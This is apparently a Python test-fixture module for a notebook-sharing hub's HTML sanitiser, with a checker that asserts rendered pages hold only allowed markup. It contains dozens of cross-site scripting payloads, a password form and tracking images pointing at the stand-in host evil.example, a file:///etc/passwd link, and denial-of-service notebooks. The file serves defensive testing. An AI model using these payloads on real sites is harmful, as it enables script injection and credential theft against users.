"""Notebooks that would attack who looks at them, and what no page of one may have."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any

from shared_notebooks import code, encoded, ipynb, markdown, png, shown

from panneuro_hub.service.browse.safe_html import ALLOWED_CLASSES

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
# Each of these is put where a notebook can have HTML.
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<img srcset='http://evil.example/pixel.png 2x' src=data:image/png;base64,x>",
    "<img src='//evil.example/x'><img src='/hub/logout'><img src='javascript:alert(1)'>",
    "<img/src='x'/onerror='alert(1)'//><img src=`x`onerror=alert(1)>",
    f"<img src='data:image/svg+xml;base64,{encoded(_SVG.encode())}'>",
    f"<img src='data:image/png;base64,{encoded(_SVG.encode())}'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    _SVG,
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,x'></object><embed src='http://evil.example/x.swf'>",
    "<applet code=x></applet><frameset><frame src='javascript:alert(1)'></frameset>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'><link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "<div style='background:url(http://evil.example/x);position:fixed;inset:0'>over</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<form action='http://evil.example/' method=post><input name=password><button>go</button>",
    "<input onfocus=alert(1) autofocus><button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a><a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a><a href='/hub/logout'>x</a><a href='../../../hub/home'>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='blob:x'>x</a><a href='x' target=_top>x</a>",
    "<a href='https://good.example' onclick=alert(1) target=_self rel=opener ping='//evil'>x</a>",
    "<b onmouseover=alert(1) STYLE=x id=login class='left-out evil'>x</b>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<video src=http://evil.example/x><source onerror=alert(1)></video><audio src=x>",
    "<table background='http://evil.example/x'><td background=javascript:alert(1)>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<p\x00 onclick=alert(1)>x</p\x00><\x00script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<td colspan=99999999 rowspan=-1 width=1e9>x</td><ol start=99999999999><li>x</ol>",
    "<button popovertarget=x>x</button><dialog open onclose=alert(1)>x</dialog>",
    '"><script>alert(1)</script>',
    "{{ 7*7 }}{% import 'os' %}{{ resources }}",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert`1`)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example) [x](/hub/logout) ![x](//evil.example/x.png) ![x](http://evil.example/x)",
    "![x](attachment:../../etc/passwd) ![x](attachment:missing.png)",
    '[x][y]\n\n[y]: javascript:alert(1) "x"',
    "<javascript:alert(1)> <https://good.example/>",
    '[x](https://good.example/"onmouseover="alert(1))',
    '![x" onerror="alert(1)](attachment:x)',
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    r"$\href{javascript:alert(1)}{x}$ $$\unicode{<img src=x onerror=alert(1)>}$$",
    r"\begin{equation}</span><script>alert(1)</script>\end{equation}",
    "```html\n<script>alert(1)</script>\n```",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "# </h1><script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
]
_WIDGET = "application/vnd.jupyter.widget-view+json"
_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "state": {"x": {"model_name": "</script><script>alert(1)</script>"}}
    }
}


def corpus() -> dict[str, bytes]:
    """Hostile notebooks by what is hostile in them."""
    found = {f"html-{number}": _everywhere(one) for number, one in enumerate(HTML)}
    found |= {f"link-{number}": ipynb(markdown(one)) for number, one in enumerate(LINKS)}
    tricks: dict[str, bytes] = {
        "types": ipynb(code("", *(_of_type(kind) for kind in _TYPES))),
        "isolated": ipynb(
            code(
                "",
                {
                    "output_type": "display_data",
                    "data": {"text/html": "<script>alert(1)</script>x"},
                    "metadata": {"text/html": {"isolated": True}},
                },
            )
        ),
        "file-names": ipynb(
            code(
                "",
                {
                    "output_type": "display_data",
                    "data": {"image/png": encoded(png())},
                    "metadata": {
                        "filenames": {"image/png": "http://evil.example/x.png"},
                        "image/png": {"width": '1 onload="alert(1)"', "alt": '"><script>'},
                    },
                    "svg_filename": "http://evil.example/x.svg",
                },
            )
        ),
        "attachments": ipynb(
            markdown(
                "![x](attachment:a.svg) ![x](attachment:b.html) ![x](attachment:c.png) "
                "![x](attachment:d) ![x](attachment:e)",
                attachments={
                    "a.svg": {"image/svg+xml": encoded(_SVG.encode())},
                    "b.html": {"text/html": encoded(b"<script>alert(1)</script>")},
                    "c.png": {"image/png": '"><script>alert(1)</script>'},
                    "d": "no bundle",
                    "e": {"image/png": encoded(b"GIF89a")},
                },
            )
        ),
        "widgets": ipynb(
            code("", shown(**{_WIDGET.replace("/", "_", 1): {"model_id": "</script>"}})),
            widgets=_STATE,
        ),
        "metadata": ipynb(
            markdown("# </title><script>alert(1)</script>", metadata={"tags": ['"><script>']}),
            code("x", metadata={"tags": ['" onclick="alert(1)'], "name": "<script>"}, id='"><b'),
            title="</title><script>alert(1)</script>",
            authors=[{"name": "<script>"}],
            kernelspec={"display_name": "<script>", "name": "../../x", "language": "<script>"},
        ),
        "language": ipynb(code("<script>alert(1)</script>"), language="<script>alert(1)</script>"),
        "lexer": ipynb(
            code("x"), language="html", language_info={"pygments_lexer": "../x", "name": ["x"]}
        ),
        "raw": ipynb(
            {
                "cell_type": "raw",
                "source": "<script>alert(1)</script>\n</pre><img src=x onerror=alert(1)>",
                "metadata": {"raw_mimetype": "text/html"},
            }
        ),
        "streams": ipynb(
            code(
                "",
                {"output_type": "stream", "name": "stdout", "text": "<script>alert(1)</script>"},
                {
                    "output_type": "stream",
                    "name": '"><script>',
                    "text": ["\x1b[31m<b>", "x\x1b]8;;"],
                },
                {"output_type": "stream", "name": "stderr", "text": "\x1b[38;2;1;2;3m<img src=x>"},
                {"output_type": "error", "ename": "<script>", "evalue": "<b>", "traceback": "x"},
                {"output_type": "error", "traceback": ["<script>alert(1)</script>", 3]},
                {"output_type": "<script>"},
                {},
            )
        ),
        "counts": ipynb(code("x", execution_count="<script>"), code("x", execution_count=10**400)),
        "half-characters": ipynb(
            markdown("\ud800 # \udfff"), code("\ud800", shown(text_plain="\udc00"))
        ),
        "surrogate-title": ipynb(markdown("# \ud800x")),
    }
    return found | tricks


_TYPES = (
    "application/javascript",
    "text/javascript",
    "application/xhtml+xml",
    "text/xml",
    "text/vnd.mermaid",
    "image/svg+xml",
    "image/svg",
    "IMAGE/SVG+XML",
    "text/html; charset=utf-8",
    "TEXT/HTML",
    'image/png" onerror="alert(1)',
    "application/vnd.plotly.v1+json",
    "application/vnd.bokehjs_exec.v0+json",
    "application/pdf",
    "video/mp4",
    "application/geo+json",
    "../../x",
    "",
)


def _of_type(kind: str) -> dict[str, Any]:
    value = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    return {"output_type": "execute_result", "metadata": {}, "data": {kind: value}}


def _everywhere(html: str) -> bytes:
    return ipynb(
        markdown(html),
        markdown(f"text {html} text"),
        code(html, shown(text_html=html), shown(text_markdown=html), shown(text_latex=html)),
        code("", shown(text_plain=html), shown(text_html=[html, html])),
        code("", {"output_type": "stream", "name": "stdout", "text": html}),
        {"cell_type": "raw", "source": html, "metadata": {}},
        title=html,
    )


def too_much() -> dict[str, bytes]:
    """Notebooks that are more than anybody could look at."""
    line = "x" * 99 + "\n"
    return {
        "long-output": ipynb(
            code("", {"output_type": "stream", "name": "stdout", "text": line * 300_000})
        ),
        "long-lines": ipynb(code("", shown(text_plain="y" * 20_000_000))),
        "long-html": ipynb(code("", shown(text_html="<b>" * 5_000_000, text_plain="plain"))),
        "deep-html": ipynb(code("", shown(text_html="<div>" * 90_000 + "deep"))),
        "deep-markdown": ipynb(markdown("<p><b>" * 15_000 + "</b>" * 15_000)),
        "deep-quotes": ipynb(markdown(">" * 50_000 + " deep")),
        "deep-lists": ipynb(markdown("".join(f"{'  ' * depth}- x\n" for depth in range(400)))),
        "many-cells": ipynb(*[code("1")] * 100_000),
        "many-outputs": ipynb(code("", *[shown(text_plain="1")] * 100_000)),
        "many-streams": ipynb(
            code("", *[{"output_type": "stream", "name": "stdout", "text": "1\n"}] * 100_000)
        ),
        "many-pictures": ipynb(*[code("", shown(image_png=encoded(png(300, 300))))] * 1500),
        "large-picture": ipynb(
            code(
                "", shown(image_png=encoded(png() + b"\0" * 6_000_000)), shown(image_gif="R0lGODlh")
            )
        ),
        "brackets": ipynb(markdown("[" * 20_000)),
        "emphasis": ipynb(markdown("*a_ " * 10_000)),
    }


def no_notebooks() -> dict[str, bytes]:
    """What is no notebook, and what its refusal says."""
    return {
        "nothing": b"",
        "bytes": bytes(range(256)),
        "html": b"<script>alert(1)</script>",
        "list": b"[]",
        "deep": b"[" * 200_000,
        "deep-object": b'{"nbformat":4,"cells":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
        "utf-8": b'{"nbformat": 4, "cells": [{"cell_type": "raw", "source": "\xff"}]}',
        "format-3": b'{"nbformat": 3, "worksheets": []}',
        "format-5": b'{"nbformat": 5, "cells": []}',
        "format-true": b'{"nbformat": true, "cells": []}',
        "no-cells": b'{"nbformat": 4}',
        "cells-object": b'{"nbformat": 4, "cells": {}}',
        "cell-text": b'{"nbformat": 4, "cells": ["<script>"]}',
        "cell-kind": b'{"nbformat": 4, "cells": [{"cell_type": "<b>", "source": ""}]}',
        "source": b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": {"a": 1}}]}',
        "numbers": json.dumps({"nbformat": 4, "cells": []}).encode().replace(b"4", b"4" * 5000),
    }


_TEXT = (
    "body p br hr h1 h2 h3 h4 h5 h6 div span blockquote pre code kbd samp var em strong b i u s "
    "del ins sub sup small abbr cite q mark details summary figure figcaption ul ol li dl dt dd "
    "table caption colgroup col thead tbody tfoot tr th td a img"
)
_ELEMENTS = {*_TEXT.split(), "html", "head", "meta", "title", "style"}
_NAMES = "class title href target rel src alt width height colspan rowspan span start scope open"
_ATTRIBUTES = set(_NAMES.split())
_PICTURE = re.compile(r"data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]*")
_WEB = re.compile(r"(https?://|mailto:)\S+", re.IGNORECASE)


# What a page of ours has of its own, in this order.
_OWN: dict[str, list[dict[str, str | None]]] = {
    "html": [{"lang": "en"}],
    "meta": [
        {"charset": "utf-8"},
        {"name": "viewport", "content": "width=device-width, initial-scale=1"},
    ],
}


class _Checker(HTMLParser):
    """Reads a page and notes all that is not allowed in one."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.text: list[str] = []
        self.elements: list[tuple[str, frozenset[tuple[str, str | None]]]] = []
        self.counts: dict[str, int] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.counts[tag] = self.counts.get(tag, 0) + 1
        given = dict(attrs)
        self.elements.append((tag, frozenset(attrs)))
        if tag not in _ELEMENTS:
            self.wrong.append(f"<{tag}>")
        if len(given) != len(attrs):
            self.wrong.append(f"{tag} has an attribute twice")
        if tag in ("html", "meta", "style", "title", "head", "body"):
            self._own(tag, given)
            return
        for name, value in given.items():
            if name not in _ATTRIBUTES:
                self.wrong.append(f"{tag} {name}={value!r}")
        if not ALLOWED_CLASSES.issuperset((given.get("class") or "").split()):
            self.wrong.append(f"{tag} of class {given['class']!r}")
        if "href" in given and not _WEB.fullmatch(given["href"] or ""):
            self.wrong.append(f"a link to {given['href']!r}")
        if tag == "a" and (given.get("target"), given.get("rel")) != (
            "_blank",
            "noopener noreferrer",
        ):
            self.wrong.append(f"a link that is {given!r}")
        if "src" in given and not _PICTURE.fullmatch(given["src"] or ""):
            self.wrong.append(f"a picture of {given['src']!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"a comment {data!r}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"an instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"a declaration {data!r}")

    def _own(self, tag: str, given: dict[str, str | None]) -> None:
        # The page's own; a second one would be the notebook's.
        known = _OWN.get(tag, [{}])
        if self.counts[tag] > len(known) or given != known[self.counts[tag] - 1]:
            self.wrong.append(f"<{tag}> {given!r}")


def checked(page: str) -> _Checker:
    """What a page holds; it fails where that could do anything."""
    checker = _Checker()
    checker.feed(page)
    checker.close()
    assert checker.wrong == []
    return checker
